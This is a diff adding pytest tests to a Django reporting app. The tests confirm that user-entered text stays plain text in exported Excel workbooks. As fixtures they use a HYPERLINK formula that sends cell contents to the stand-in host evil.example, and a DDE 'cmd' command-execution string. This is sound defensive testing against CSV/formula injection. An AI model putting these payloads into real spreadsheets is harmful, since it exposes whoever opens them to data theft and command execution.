@@ -713,3 +713,43 @@ class TestOfficeWorkbooks:
         assert row[:4] == [1, "P1-X1", "UBND xã Thống Nhất", "Đang soạn"]
         assert row[6:12] == [70, 100, 0.7, 1234.5, "Có", None]
         assert sheet.cell(6, 10).number_format == "#,##0.0###"
+
+
+class TestTextStaysText:
+    """Text a person typed never becomes a formula in a file someone else opens."""
+
+    def test_a_narrative_that_looks_like_a_formula_stays_text_and_comes_back(self, setup):
+        formula = '=HYPERLINK("http://evil.example/?"&C3,"Bấm để xem")'
+        setup.fill(
+            narrative={"results": formula},
+            values={setup.count.pk: {"value": 3, "comment": "=1+1"}},
+        )
+        data = excel.report_workbook(selectors.report_sheet(setup.fresh()))
+        sheet = load_workbook(io.BytesIO(data))["Báo cáo"]
+        cells = [c for row in sheet.iter_rows() for c in row if c.value in (formula, "=1+1")]
+        assert len(cells) == 2 and all(c.data_type == "s" for c in cells)
+        report = excel.report_import(
+            file=io.BytesIO(data),
+            scope=setup.scope[Role.REPORTER],
+            user=setup.user(Role.REPORTER),
+            expected_report=setup.fresh(),
+        )
+        assert report.results == formula
+
+    def test_the_period_figures_keep_a_text_value_as_text(self, setup):
+        from indicators.models import Indicator
+
+        text = ScheduleIndicatorFactory(
+            schedule=setup.schedule,
+            indicator=IndicatorFactory(kind=Indicator.Kind.TEXT, unit=""),
+            required=False,
+        ).indicator
+        setup.fill(values={text.pk: {"text": "=cmd|' /C calc'!A0"}})
+        reports = (
+            Report.objects.filter(period=setup.period)
+            .select_related("unit")
+            .prefetch_related("values__indicator")
+        )
+        data = excel.period_figures_workbook(period=setup.period, reports=list(reports))
+        sheet = load_workbook(io.BytesIO(data)).active
+        assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
